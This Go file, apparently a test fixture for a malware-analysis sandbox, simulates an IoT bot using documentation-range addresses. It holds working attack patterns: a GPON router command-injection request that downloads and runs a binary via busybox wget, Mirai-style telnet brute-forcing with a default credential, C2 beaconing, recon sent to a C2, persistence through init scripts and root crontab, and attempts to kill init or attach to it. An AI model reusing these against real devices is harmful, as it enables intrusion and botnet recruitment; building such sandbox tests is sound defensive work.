// Command bot is a simulated IoT bot for the sandbox tests: no real
// malware, only the behaviours the sandbox must recognise. The behaviour is
// chosen at link time with -ldflags "-X main.mode=...". All addresses are
// documentation or benchmarking prefixes, reachable only as the sandbox's
// fake Internet.
package main

import (
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"runtime/debug"
	"strings"
	"syscall"
	"time"
)

var (
	mode     = "bot"
	hostPort = "" // containment: 127.0.0.1:port of a listener outside the sandbox
)

func main() {
	switch mode {
	case "bot":
		c2()
		scan()
		gpon()
		watchdog()
		killOther()
	case "sleep":
		time.Sleep(10 * time.Second)
	case "recon":
		// report the device it believes it is on, as bots do to their C2
		cpu, _ := os.ReadFile("/proc/cpuinfo")
		host, _ := os.Hostname()
		if c, err := net.DialTimeout("tcp", "198.51.100.200:9999", 2*time.Second); err == nil {
			fmt.Fprintf(c, "host=%s cpu=%s", host, strings.SplitN(string(cpu), "\n", 2)[0])
			c.Close()
		}
	case "bigfile":
		f, err := os.Create("/tmp/big")
		if err != nil {
			return
		}
		chunk := make([]byte, 64<<10)
		for range 64 {
			if _, err := f.Write(chunk); err != nil {
				fmt.Println("write:", err)
				break
			}
		}
		f.Close()
	case "daemon":
		// leave a detached child behind and exit, as bots daemonise
		exec.Command("/bin/sh", "-c", "sleep 1000 &").Run()
	case "persist-init":
		persist("/usr/bin/.x", "/etc/init.d/S95x", "#!/bin/sh\n/usr/bin/.x &\n")
	case "persist-cron":
		persist("/usr/bin/.y", "/etc/crontabs/root", "* * * * * /usr/bin/.y\n")
	case "volatile":
		self, _ := os.ReadFile(os.Args[0])
		os.WriteFile("/tmp/.v", self, 0o755)
		os.WriteFile("/var/run/.v.pid", []byte("1\n"), 0o644)
	case "selfdelete":
		os.Remove(os.Args[0])
		time.Sleep(200 * time.Millisecond)
	case "contain":
		for _, a := range []string{hostPort, "192.0.2.1:80"} {
			if c, err := net.DialTimeout("tcp", a, 2*time.Second); err == nil {
				fmt.Fprintf(c, "KANSOKU-CONTAIN %s\r\n", a)
				c.Close()
			}
		}
	case "tamper":
		// a raw socket, as SYN scanners open; denied in the sandbox
		if fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_TCP); err == nil {
			syscall.Close(fd)
		}
		// try to take the sandbox down from inside, then phone home
		syscall.Kill(1, syscall.SIGKILL)
		syscall.Kill(2, syscall.SIGKILL)
		if err := syscall.PtraceAttach(1); err == nil {
			fmt.Println("ptrace attach to init succeeded")
		}
		if c, err := net.DialTimeout("tcp", "192.0.2.7:443", 2*time.Second); err == nil {
			c.Write([]byte("still-captured"))
			c.Close()
		}
	case "crash":
		debug.SetTraceback("crash")
		var p *int
		*p = 1
	case "hang":
		// Asynchronous preemption's signals stop a traced busy loop so
		// often that the CPU limit would take many times its wall time.
		if os.Getenv("GODEBUG") == "" {
			syscall.Exec(os.Args[0], os.Args, append(os.Environ(), "GODEBUG=asyncpreemptoff=1"))
		}
		for {
		}
	case "forkbomb":
		forkbomb()
	case "memhog":
		var keep [][]byte
		for {
			b := make([]byte, 16<<20)
			for i := range b {
				b[i] = 1
			}
			keep = append(keep, b)
		}
	}
}

func c2() {
	addrs, err := net.LookupHost("cnc.bot-test.example")
	if err != nil || len(addrs) == 0 {
		fmt.Println("lookup:", err)
		return
	}
	for range 3 {
		c, err := net.DialTimeout("tcp", net.JoinHostPort(addrs[0], "4444"), 2*time.Second)
		if err != nil {
			continue
		}
		c.Write([]byte{0, 0, 0, 1, 'b', 'o', 't'})
		c.Close()
		time.Sleep(50 * time.Millisecond)
	}
}

func scan() {
	for i := 1; i <= 12; i++ {
		c, err := net.DialTimeout("tcp", fmt.Sprintf("198.51.100.%d:23", i), time.Second)
		if err != nil {
			continue
		}
		if i == 1 { // brute-force the first one, as Mirai's scanner does
			buf := make([]byte, 64)
			c.SetDeadline(time.Now().Add(2 * time.Second))
			c.Read(buf) // login:
			c.Write([]byte("root\r\n"))
			c.Read(buf) // Password:
			c.Write([]byte("xc3511\r\n"))
			c.Read(buf)
		}
		c.Close()
	}
}

func gpon() {
	body := "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.99/bins/x.mips+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0"
	c, err := net.DialTimeout("tcp", "198.51.100.50:8080", 2*time.Second)
	if err != nil {
		return
	}
	defer c.Close()
	fmt.Fprintf(c, "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 198.51.100.50:8080\r\nUser-Agent: Hello, World\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
	c.SetReadDeadline(time.Now().Add(2 * time.Second))
	io.Copy(io.Discard, c)
}

func watchdog() {
	for _, p := range []string{"/dev/watchdog", "/dev/misc/watchdog"} {
		if f, err := os.OpenFile(p, os.O_RDWR, 0); err == nil {
			disarm(f)
			f.Close()
		}
	}
}

// killOther starts a rival through the device's shell and kills it, as
// bots kill competing malware.
func killOther() {
	cmd := exec.Command("/bin/sh", "-c", "sleep 30")
	if err := cmd.Start(); err != nil {
		fmt.Println("start rival:", err)
		return
	}
	time.Sleep(300 * time.Millisecond)
	cmd.Process.Kill()
	cmd.Wait()
}

// persist copies the bot to flash and registers it to start at boot; a copy
// that already runs from flash only shows it is alive.
func persist(bin, file, content string) {
	if os.Args[0] == bin {
		c, err := net.DialTimeout("tcp", "198.51.100.77:6667", 2*time.Second)
		if err == nil {
			c.Write([]byte("NICK restarted\r\n"))
			c.Close()
		}
		return
	}
	self, err := os.ReadFile(os.Args[0])
	if err != nil {
		fmt.Println("read self:", err)
		return
	}
	if err := os.WriteFile(bin, self, 0o755); err != nil {
		fmt.Println("write:", err)
		return
	}
	os.MkdirAll(file[:strings.LastIndex(file, "/")], 0o755)
	if err := os.WriteFile(file, []byte(content), 0o755); err != nil {
		fmt.Println("write:", err)
	}
}
